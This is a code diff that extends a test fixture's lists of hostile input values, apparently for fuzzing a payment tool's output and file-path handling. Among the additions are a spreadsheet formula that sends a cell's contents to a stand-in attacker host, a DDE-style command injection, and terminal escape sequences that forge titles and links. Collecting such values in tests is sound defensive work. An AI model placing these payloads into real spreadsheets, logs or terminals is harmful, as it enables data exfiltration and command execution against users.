@@ -72,6 +72,13 @@ export const HOSTILE_VALUES: readonly Hostile[] = [
   { label: 'newline', value: 'line one\nokpay: forged second line' },
   { label: 'carriage return', value: 'abc\rxyz' },
   { label: 'right-to-left override', value: 'safe\u202egnp.exe' },
+  { label: 'right-to-left isolate', value: 'pay \u2067100\u2069 back' },
+  { label: 'line separator', value: 'line one\u2028okpay: forged second line' },
+  { label: 'C1 control sequence', value: 'a\u009b2Jb' },
+  { label: 'terminal title and hyperlink escape', value: '\u001b]0;pwned\u0007\u001b]8;;http://evil.example\u001b\\click\u001b]8;;\u001b\\' },
+  { label: 'spreadsheet formula', value: '=HYPERLINK("http://evil.example/?x="&A1,"details")' },
+  { label: 'spreadsheet formula after @', value: '@SUM(1+1)' },
+  { label: 'spreadsheet command', value: '+1+cmd|calc' },
   { label: 'zero-width joiner', value: 'a\u200db' },
   { label: 'lone surrogate', value: 'a\ud800b' },
   { label: 'emoji', value: '💸💸💸' },
@@ -102,6 +109,8 @@ export const WRITE_PATH_VALUES: readonly Hostile[] = [
   { label: 'a directory', value: '/proc' },
   { label: 'an existing file as a directory', value: '/proc/version' },
   { label: 'NUL byte', value: '/tmp/ab\u0000cd' },
+  { label: 'a symbolic link', value: '/dev/stdout' },
+  { label: 'terminal escape in a missing directory', value: '/proc/okpay-missing/\u001b]0;pwned\u0007' },
 ];
 
 /** Sensible values for the other slots, by option or argument name. */
